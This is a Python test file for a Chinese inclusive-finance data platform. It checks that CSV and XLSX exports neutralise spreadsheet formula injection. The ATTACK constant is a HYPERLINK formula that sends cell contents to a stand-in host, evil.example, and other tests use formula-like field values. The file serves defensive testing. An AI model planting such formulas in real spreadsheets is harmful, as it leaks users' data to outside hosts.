"""A bank's typed text never reaches another user's spreadsheet as a live formula (CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from puhui.data import services
from tests.data.conftest import loan_row, loans_csv

pytestmark = pytest.mark.usefixtures("catalogue")

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
CHANNELS = [
    "镇（街道）代码",
    "助农取款服务点数（个）",
    "其中已建成普惠金融服务站且实现跨行支付的（个）",
    "银行自助机具数（台）",
    "其中开通实时缴费业务的（台）",
    "流动银行“三进”活动次数（次）",
    "金融知识宣传活动次数（次）",
    "说明",
]


def _csv(rows) -> bytes:
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode("utf-8")


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_a_banks_note_reaches_the_office_csv_as_text(login, users, county):
    up = services.upload_start(
        actor=users["abc"],
        institution=county["abc"],
        form_code="channels",
        period_code="2020Q1",
        channel="page",
        file=_csv([CHANNELS, ["370323102000", 4, 2, 8, 8, 1, 0, ATTACK]]),
        filename="channels.csv",
    )
    assert up.status == "succeeded", up.errors
    rows = _rows(login(users["office"]).get(f"/data/submissions/{up.submission_id}/rows.csv"))
    notes = [r[-1] for r in rows[1:]]
    assert "'" + ATTACK in notes
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_a_loan_number_that_looks_like_a_formula_is_text(login, users, county):
    up = services.upload_start(
        actor=users["abc"],
        institution=county["abc"],
        form_code="loans",
        period_code="2020Q1",
        channel="page",
        file=loans_csv([loan_row(1, 借据号="-A1")]),
        filename="loans.csv",
    )
    assert up.status == "succeeded", up.errors
    rows = _rows(login(users["abc"]).get(f"/data/submissions/{up.submission_id}/rows.csv"))
    assert rows[1][1] == "'-A1"


def test_explorer_xlsx_keeps_formula_like_names_as_text(login, users, county):
    county["abc"].name = "=1+1 银行"
    county["abc"].save(update_fields=["name"])
    up = services.upload_start(
        actor=users["abc"],
        institution=county["abc"],
        form_code="loans",
        period_code="2020Q1",
        channel="page",
        file=loans_csv([loan_row(1)]),
        filename="loans.csv",
    )
    services.submission_review(actor=users["office"], submission=up.submission, approve=True)
    from puhui.data import derived

    derived.compute_all()
    r = login(users["office"]).get(
        "/data/indicators/?indicator=loan_balance&level=institution&period=2020Q1&export=xlsx"
    )
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "1+1" in c.value]
    assert cells and all(c.data_type == "s" and c.value == "=1+1 银行" for c in cells)
    assert "filename*=utf-8''" in r["Content-Disposition"].lower()
